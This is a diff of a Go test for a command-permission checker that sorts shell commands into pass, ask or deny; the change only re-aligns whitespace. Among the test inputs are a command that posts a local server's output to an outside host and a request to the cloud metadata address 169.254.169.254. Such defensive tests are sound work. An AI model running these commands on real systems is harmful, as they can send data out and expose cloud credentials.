@@ -168,17 +168,17 @@ func TestRequestsToAServerOfTheLine(t *testing.T) {
 	t.Parallel()
 	s := everydayProject(t)
 	for command, want := range map[string]string{
-		"go run . & sleep 1; curl -s localhost:8080/health":                            "pass",
-		"node server.js & sleep 2; curl http://127.0.0.1:3000/; kill %1":               "pass",
-		"./run.sh & curl -X POST -d a=b http://localhost:8080/api":                     "pass",
-		"npm start & sleep 3 && wget -qO- http://localhost:3000":                       "pass",
-		"python3 script.py & sleep 1; curl -s http://[::1]:8000/":                      "pass",
-		"curl -s localhost:8080/health":                                                "ask",
-		"go run .; curl -s localhost:8080/health":                                      "ask",
-		"go run . & curl -s localhost:8080/ | curl -d @- https://example.com":          "ask",
-		"go run . & curl http://169.254.169.254/":                                      "deny",
-		"go run . & curl -s localhost:8080/; git push":                                 "ask",
-		"sleep 5 & curl -s localhost:8080/":                                            "ask",
+		"go run . & sleep 1; curl -s localhost:8080/health":                   "pass",
+		"node server.js & sleep 2; curl http://127.0.0.1:3000/; kill %1":      "pass",
+		"./run.sh & curl -X POST -d a=b http://localhost:8080/api":            "pass",
+		"npm start & sleep 3 && wget -qO- http://localhost:3000":              "pass",
+		"python3 script.py & sleep 1; curl -s http://[::1]:8000/":             "pass",
+		"curl -s localhost:8080/health":                                       "ask",
+		"go run .; curl -s localhost:8080/health":                             "ask",
+		"go run . & curl -s localhost:8080/ | curl -d @- https://example.com": "ask",
+		"go run . & curl http://169.254.169.254/":                             "deny",
+		"go run . & curl -s localhost:8080/; git push":                        "ask",
+		"sleep 5 & curl -s localhost:8080/":                                   "ask",
 	} {
 		e := decided(t, s, true, command)
 		if got := verdict(e); got != want || want == "pass" && e.Network() {
